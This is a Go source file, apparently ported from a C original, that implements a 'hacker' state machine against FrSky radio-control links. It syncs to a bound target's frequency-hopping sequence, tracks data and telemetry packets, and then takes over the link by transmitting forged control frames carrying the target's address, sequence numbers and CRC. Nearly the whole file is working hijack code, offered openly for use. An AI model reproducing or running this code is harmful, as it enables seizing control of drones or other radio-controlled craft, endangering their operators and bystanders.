package usbrf

/*------------------------------------------------------------------
 *
 * Purpose:	FSK Hacker state machine (§4.5): given a bound target's
 *		protocol, address and hop table, synchronize to its hop
 *		sequence, receive data packets, track the telemetry slot,
 *		and (mirroring the DSSS hacker's shape) transition to
 *		sending forged frames once synchronized.
 *
 *		Grounded on protocol/frsky_hack.c (read in full): states
 *		SYNC/RECV/SEND, hop_idx/chanskip advance, telemetry nibble
 *		tracking.
 *
 *------------------------------------------------------------------*/

// FrskyHackState mirrors protocol/frsky_hack.c's three states.
type FrskyHackState int

const (
	FrskyHackSync FrskyHackState = iota
	FrskyHackRecv
	FrskyHackSend
)

const (
	frskyRecvTicks       = 1100 // FRSKY_RECV_TIME
	frskyTelemTicks      = 400
	frskyMissLimit       = 3
	frskyTakeoverThresh  = 15
	frskySendFudgeTicks  = 20
)

// FrskyHacker implements §4.5's hacker state machine.
type FrskyHacker struct {
	radio Radio
	tick  *Ticker
	ant   AntennaSwitch
	cfg   *Config
	rcBuf *RcChannelBuffer

	identity *FskIdentity
	tuning   *TuningTable

	hopIdx    byte
	chanskip  byte
	state     FrskyHackState
	missCount int
	succPkts  int

	recvSeq byte
	sendSeq byte

	// awaitingTelem is set once a data packet flags that a telemetry
	// frame is due in the next slot (§4.5 "Telemetry sequence"); the
	// following onRecv call is then routed to onTelemetryRecv instead of
	// being treated as another data packet.
	awaitingTelem bool

	startTakeover bool

	running bool
}

// NewFrskyHacker constructs a FrskyHacker bound to the given collaborators
// and persisted config (used to seed the bound identity/tuning, §4.6's
// persisted fields being shared with the legitimate receiver path).
func NewFrskyHacker(radio Radio, tick *Ticker, ant AntennaSwitch, cfg *Config) *FrskyHacker {
	return &FrskyHacker{radio: radio, tick: tick, ant: ant, cfg: cfg, tuning: &TuningTable{}}
}

// SetRcBuffer wires the host-supplied channel buffer for forged frames.
func (h *FrskyHacker) SetRcBuffer(b *RcChannelBuffer) {
	h.rcBuf = b
}

// Slot builds the ProtocolSlot vtable.
func (h *FrskyHacker) Slot() *ProtocolSlot {
	return &ProtocolSlot{
		Name:     "frsky_hack",
		Init:     h.init,
		Deinit:   h.deinit,
		Start:    h.start,
		Stop:     h.stop,
		Run:      h.run,
		Status:   h.status,
		ParseArg: h.parseArg,
	}
}

func (h *FrskyHacker) init() {
	h.radio.OnRecvReady(h.onRecv)
	h.radio.OnSendDone(h.onSend)
	h.tick.OnExpire(h.onTick)
}

func (h *FrskyHacker) deinit() {
	h.tick.Stop()
	_ = h.radio.AbortReceive()
	h.radio.OnRecvReady(nil)
	h.radio.OnSendDone(nil)
}

// parseArg implements §6's FSK hacker START contract: protocol:u8,
// target_id:u8[2], hop_table:u8[47].
func (h *FrskyHacker) parseArg(t ExecType, data []byte, offset, total int) {
	if t != ExecStart || len(data) < 1+2+FrskyHopChannels {
		return
	}
	id := &FskIdentity{Protocol: FrskyProtocol(data[0])}
	copy(id.Addr[:], data[1:3])
	copy(id.HopTable[:], data[3:3+FrskyHopChannels])
	h.identity = id
}

func (h *FrskyHacker) start() {
	if h.identity == nil {
		return
	}
	h.running = true
	h.startTakeover = true
	h.hopIdx = 0
	h.missCount = 0
	h.succPkts = 0
	h.recvSeq = 0x8
	h.sendSeq = 0x8
	h.awaitingTelem = false
	h.state = FrskyHackSync
	_ = h.ant.Select(ChipFSK)
	h.armHop()
	h.tick.Set(dsmSyncRecvTicks)
}

func (h *FrskyHacker) stop() {
	h.running = false
	h.tick.Stop()
	_ = h.radio.AbortReceive()
}

func (h *FrskyHacker) status() string { return "frsky_hack" }

func (h *FrskyHacker) run() {}

// armHop implements §4.5's "at runtime the receiver only writes
// {fscal1[i], fscal2, fscal3, channel} per hop".
func (h *FrskyHacker) armHop() {
	ch := h.identity.HopTable[h.hopIdx]
	_ = h.radio.Program(RFParams{
		Channel: ch,
		FSCal1:  h.tuning.FSCal1[h.hopIdx],
		FSCal2:  h.tuning.FSCal2,
		FSCal3:  h.tuning.FSCal3,
		FSCtrl0: h.identity.FSCtrl0,
	})
	_ = h.radio.SetMode(ModeRX)
	_ = h.radio.StartReceive()
}

func (h *FrskyHacker) onTick() {
	if !h.running {
		return
	}
	switch h.state {
	case FrskyHackSync:
		h.armHop()
		h.tick.Set(dsmSyncRecvTicks)
	case FrskyHackRecv:
		h.missCount++
		h.awaitingTelem = false
		if h.missCount > frskyMissLimit {
			h.state = FrskyHackSync
			h.tick.Set(dsmSyncRecvTicks)
			return
		}
		h.armHop()
		h.tick.Set(frskyRecvTicks)
	case FrskyHackSend:
		h.tick.Set(frskyRecvTicks)
		h.sendForged()
	}
}

func (h *FrskyHacker) onRecv(ev RadioEvent) {
	if !h.running || ev.Error {
		return
	}
	packet, err := h.radio.ReadPayload(h.identity.Protocol.PacketLength())
	if err != nil {
		return
	}
	if !ValidateDataPacket(h.identity, packet, h.radio.CRCOK()) {
		return
	}

	// A data packet flagged that a telemetry frame was due in this slot
	// (§4.5): this receive is that separately-arriving telemetry frame,
	// not another data packet, so its own sequence byte drives the
	// advance (protocol_frsky_parse_telem), never the data packet's.
	if h.awaitingTelem {
		h.onTelemetryRecv(packet)
		return
	}

	h.missCount = 0
	if h.succPkts < dsmSuccPacketsSaturate {
		h.succPkts++
	}

	chanskip, reportedIdx := ExtractChanskip(packet)
	h.hopIdx = reportedIdx
	h.chanskip = chanskip
	h.identity.RxNum = packet[6]

	if h.succPkts > frskyTakeoverThresh && h.startTakeover {
		h.beginTakeover()
		return
	}

	_, sendSeq := TelemetrySeq(packet[21])
	if sendSeq != 0x8 {
		h.awaitingTelem = true
		h.state = FrskyHackRecv
		h.armHop()
		h.tick.Set(frskyTelemTicks)
		return
	}

	h.hopIdx = NextHopIdx(h.hopIdx, chanskip)
	h.state = FrskyHackRecv
	h.armHop()
	h.tick.Set(frskyRecvTicks)
}

// onTelemetryRecv implements protocol_frsky_parse_telem's sequence update:
// the telemetry frame that actually arrives in the slot a data packet
// flagged, carrying its own recv_seq/send_seq nibbles independent of the
// data packet that preceded it.
func (h *FrskyHacker) onTelemetryRecv(packet []byte) {
	h.awaitingTelem = false
	h.missCount = 0
	if h.succPkts < dsmSuccPacketsSaturate {
		h.succPkts++
	}

	h.recvSeq, h.sendSeq = AdvanceTelemetrySeq(packet[21])
	h.hopIdx = NextHopIdx(h.hopIdx, h.chanskip)
	h.state = FrskyHackRecv
	h.armHop()
	h.tick.Set(frskyRecvTicks)
}

func (h *FrskyHacker) beginTakeover() {
	_ = h.radio.SetMode(ModeTX)
	h.state = FrskyHackSend
	deadline := uint32(frskyRecvTicks)
	if deadline > frskySendFudgeTicks {
		deadline -= frskySendFudgeTicks
	}
	h.tick.Set(deadline)
}

func (h *FrskyHacker) onSend(ev RadioEvent) {
	h.hopIdx = NextHopIdx(h.hopIdx, h.chanskip)
	h.armHop()
}

// sendForged builds and transmits a forged data frame, implementing
// §4.5's "next() does hop_idx=(hop_idx+chanskip)%47 then writes
// FSCAL1/FSCAL2/FSCAL3/CHANNR" via armHop, with the packet body built from
// the host-supplied RcChannelBuffer the same way as the DSSS hacker.
func (h *FrskyHacker) sendForged() {
	frame := h.buildForgedFrame()
	_ = h.radio.Send(frame)
}

func (h *FrskyHacker) buildForgedFrame() []byte {
	l := h.identity.Protocol.PacketLength()
	frame := make([]byte, l)
	frame[1] = h.identity.Addr[0]
	frame[2] = h.identity.Addr[1]
	frame[3] = 0
	frame[4] = h.hopIdx & 0x3F
	frame[5] = 0
	frame[6] = h.identity.RxNum
	frame[21] = (h.recvSeq << 4) | h.sendSeq

	if h.rcBuf != nil {
		channels := h.rcBuf.Channels()
		for i := 0; i < len(channels) && 7+i*2+1 < l-4; i++ {
			word := PackChannelWord(byte(i), channels[i])
			frame[7+i*2] = byte(word >> 8)
			frame[7+i*2+1] = byte(word)
		}
	}

	if h.identity.Protocol.HasInnerCRC() {
		body := frame[3 : l-4]
		crc := FrskyCRC(body)
		frame[l-4] = byte(crc >> 8)
		frame[l-3] = byte(crc)
	}
	return frame
}
